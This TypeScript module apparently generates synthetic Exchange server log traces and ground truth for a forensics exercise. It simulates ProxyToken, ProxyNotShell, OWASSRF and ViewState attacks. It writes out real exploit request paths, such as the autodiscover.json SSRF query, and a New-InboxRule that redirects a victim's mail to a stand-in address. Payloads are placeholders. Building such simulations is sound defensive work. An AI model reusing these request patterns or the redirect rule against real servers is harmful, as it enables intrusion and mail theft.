import { audit, cmdletEvent, type Day, processEvent, rpsHttpRow } from '../background/index.js';
import { smtp } from '../server/index.js';
import type { WebRequest } from '../traffic/index.js';
import { at, iso } from '../write/index.js';
import type { World } from './world.js';

/** ProxyToken (CVE-2021-33766): a mailbox rule without signing in. */
export interface ProxyToken {
  readonly kind: 'proxytoken';
  readonly at: string;
  readonly from: string;
  readonly mailbox: string;
  /** 200: the rule was created. */
  readonly status: 200 | 401 | 500;
}

/** ProxyNotShell (CVE-2022-41040, CVE-2022-41082): like ProxyShell, with somebody's password. */
export interface ProxyNotShell {
  readonly kind: 'proxynotshell';
  readonly at: string;
  readonly from: string;
  readonly account: string;
  readonly userAgent: string;
  /** 200: answered; 404: stopped by a rewrite rule; 401: refused. */
  readonly status: 200 | 401 | 404;
  /** A program that the inner PowerShell started; only with 200. */
  readonly runs?: string;
}

/** OWASSRF (CVE-2022-41080): past the rewrite rule of 2022, through the webmail address. */
export interface OwaSsrf {
  readonly kind: 'owassrf';
  readonly at: string;
  readonly from: string;
  readonly account: string;
  readonly status: 200 | 401 | 403;
  readonly runs?: string;
}

/** Page state sent to a page: in the URL (CVE-2020-0688), or in the body with stolen machine keys. */
export interface ViewState {
  readonly kind: 'viewstate';
  readonly at: string;
  readonly from: string;
  readonly carrier: 'url' | 'body';
  readonly stem: string;
  readonly account?: string;
  readonly status: 200 | 302 | 401 | 500;
  readonly runs?: string;
}

const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

function note(world: World, request: WebRequest, from: string): void {
  world.traces.push(request);
  world.truth.intruderRequests.push(request.id);
  world.truth.exploitRequests[from] = (world.truth.exploitRequests[from] ?? 0) + 1;
}

function starts(day: Day, world: World, time: number, commandLine: string, from: string): void {
  const pid = day.random.int(9100, 20_000);
  world.traces.push(
    processEvent(day, time, {
      image: CMD,
      commandLine: `"${CMD}" /c ${commandLine}`,
      parent: W3WP,
      pid,
      parentPid: day.random.int(5000, 9000),
    }),
  );
  world.truth.events.push({
    time: iso(time),
    phase: 'execution',
    what: `w3wp.exe started cmd.exe: ${commandLine}`,
    client: from,
  });
}

export function proxyToken(day: Day, step: ProxyToken, world: World): void {
  const time = at(step.at);
  const mailbox = smtp(day.server, step.mailbox);
  const send = (after: number, method: string, stem: string, query: string, status: number): void =>
    note(
      world,
      day.request({
        time: time + after,
        duration: 40,
        method,
        stem,
        query,
        clientIp: step.from,
        userAgent: 'python-requests/2.26.0',
        status,
        requestBytes: 380,
        responseBytes: 700,
        proxy: {
          protocol: 'Ecp',
          authentication: '',
          authenticated: false,
          ...(status === 401 ? {} : { backEnd: { status, stem, query } }),
        },
      }),
      step.from,
    );
  const refused = step.status === 401;
  send(0, 'GET', `/ecp/${mailbox}/PersonalSettings/HomePage.aspx`, 'showhelp=false', refused ? 401 : 404);
  send(
    1200,
    'POST',
    `/ecp/${mailbox}/RulesEditor/InboxRules.svc/NewObject`,
    'msExchEcpCanary=SYNTHETIC-NO-SESSION.',
    step.status,
  );
  world.truth.events.push({
    time: iso(time),
    phase: 'exploitation',
    what: `ProxyToken against ${mailbox}, answered ${step.status}`,
    client: step.from,
  });
  if (step.status !== 200) return;
  const parameters = `-Mailbox "${mailbox}" -Name "." -RedirectTo "collect@probe.invalid"`;
  world.traces.push(
    cmdletEvent(day, time + 1210, {
      cmdlet: 'New-InboxRule',
      parameters,
      caller: `${day.server.domain}/Users/${step.mailbox}`,
      host: 'ECP',
      pool: 'MSExchangeECPAppPool',
    }),
    audit(day, time + 1210, 'New-InboxRule', mailbox, `${day.server.domain}/Users/${step.mailbox}`, [
      ['Mailbox', mailbox],
      ['Name', '.'],
      ['RedirectTo', 'collect@probe.invalid'],
    ]),
  );
  world.truth.mailboxes.push({ mailbox, client: step.from, first: iso(time), last: iso(time), bytes: 0 });
  world.truth.persistence.push(`inbox rule of ${mailbox}`);
  world.truth.waysBack.push({ kind: 'inbox-rule', name: mailbox });
  world.truth.events.push({
    time: iso(time + 1210),
    phase: 'mail-theft',
    what: `mail of ${mailbox} redirected`,
    client: step.from,
  });
}

export function proxyNotShell(day: Day, step: ProxyNotShell, world: World): void {
  const time = at(step.at);
  const { server } = day;
  const user = `${server.netbios}\\${step.account}`;
  for (const after of [0, 1300, 2900]) {
    const stopped = step.status !== 200;
    const request = day.request({
      time: time + after,
      duration: stopped ? 3 : 140,
      method: after === 0 ? 'GET' : 'POST',
      stem: '/autodiscover/autodiscover.json',
      query: 'a@probe.invalid/PowerShell/?Email=autodiscover/autodiscover.json%3Fa@probe.invalid',
      clientIp: step.from,
      userAgent: step.userAgent,
      ...(step.status === 401 ? {} : { user: `${server.netbios}\\${step.account}` }),
      status: step.status,
      requestBytes: 5400,
      responseBytes: stopped ? 0 : 3000,
      proxy: {
        protocol: 'Autodiscover',
        authentication: 'Basic',
        authenticated: step.status !== 401,
        ...(step.status === 401 ? {} : { user }),
        ...(stopped
          ? {}
          : {
              anchorMailbox: 'a@probe.invalid',
              routingHint: 'ExplicitLogon-SMTP',
              backEnd: { status: 200, stem: '/PowerShell/', user },
            }),
      },
    });
    note(world, request, step.from);
    if (!stopped)
      world.traces.push(
        rpsHttpRow(day, request.time + 120, {
          request: request.id,
          user,
          authentication: 'Kerberos',
          clientIp: step.from,
          clientInfo: step.userAgent,
          status: 200,
          query: '',
        }),
      );
  }
  world.truth.events.push({
    time: iso(time),
    phase: 'exploitation',
    what: `ProxyNotShell as ${step.account}, answered ${step.status}`,
    client: step.from,
  });
  if (step.status === 200 && step.runs) starts(day, world, time + 3200, step.runs, step.from);
}

export function owaSsrf(day: Day, step: OwaSsrf, world: World): void {
  const time = at(step.at);
  const { server } = day;
  const user = `${server.netbios}\\${step.account}`;
  for (const after of [0, 1800]) {
    const answered = step.status === 200;
    const request = day.request({
      time: time + after,
      duration: answered ? 160 : 5,
      method: 'POST',
      stem: `/owa/${step.account}%40${server.domain}/powershell`,
      clientIp: step.from,
      userAgent: 'ClientInfo',
      ...(step.status === 401 ? {} : { user: smtp(server, step.account) }),
      status: step.status,
      requestBytes: 6100,
      responseBytes: answered ? 3300 : 0,
      proxy: {
        protocol: 'Owa',
        authentication: 'Basic',
        authenticated: step.status !== 401,
        ...(step.status === 401 ? {} : { user }),
        ...(answered
          ? {
              anchorMailbox: smtp(server, step.account),
              routingHint: 'ExplicitLogon-SMTP',
              backEnd: { status: 200, stem: '/powershell', user },
            }
          : {}),
      },
    });
    note(world, request, step.from);
    if (answered)
      world.traces.push(
        rpsHttpRow(day, request.time + 130, {
          request: request.id,
          user,
          authentication: 'Kerberos',
          clientIp: step.from,
          clientInfo: 'python-requests/2.28.1',
          status: 200,
          query: '',
        }),
      );
  }
  world.truth.events.push({
    time: iso(time),
    phase: 'exploitation',
    what: `OWASSRF as ${step.account}, answered ${step.status}`,
    client: step.from,
  });
  if (step.status === 200 && step.runs) starts(day, world, time + 2400, step.runs, step.from);
}

export function viewState(day: Day, step: ViewState, world: World): void {
  const time = at(step.at);
  const { server } = day;
  const user = step.account === undefined ? undefined : `${server.netbios}\\${step.account}`;
  const ecp = step.stem.startsWith('/ecp');
  note(
    world,
    day.request({
      time,
      duration: 210,
      method: step.carrier === 'url' ? 'GET' : 'POST',
      stem: step.stem,
      ...(step.carrier === 'url' ? { query: '__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=SYNTHETIC' } : {}),
      clientIp: step.from,
      userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:84.0) Gecko/20100101 Firefox/84.0',
      ...(user === undefined || step.status === 401 ? {} : { user }),
      status: step.status,
      requestBytes: step.carrier === 'body' ? 9100 : 0,
      responseBytes: 3000,
      proxy: {
        protocol: ecp ? 'Ecp' : 'Owa',
        authentication: 'FBA',
        authenticated: user !== undefined && step.status !== 401,
        ...(user === undefined ? {} : { user, routingHint: 'WindowsIdentity' }),
        ...(user === undefined || step.status === 401
          ? {}
          : {
              backEnd: {
                status: step.status,
                stem: step.stem,
                user,
                ...(step.carrier === 'url' ? { query: '__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=SYNTHETIC' } : {}),
              },
            }),
      },
    }),
    step.from,
  );
  if (step.carrier === 'url' && step.status === 500)
    world.traces.push({
      kind: 'event',
      channel: 'Application',
      provider: 'MSExchange Control Panel',
      eventId: 4,
      level: 2,
      time: time + 190,
      data: [
        user ?? '',
        `https://${server.publicHost}${step.stem}?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=SYNTHETIC`,
        'System.Web.HttpUnhandledException: the state information is invalid for this page',
      ],
    });
  world.truth.events.push({
    time: iso(time),
    phase: 'exploitation',
    what: `page state sent to ${step.stem} in the ${step.carrier}, answered ${step.status}`,
    client: step.from,
  });
  if (step.runs) starts(day, world, time + 150, step.runs, step.from);
}
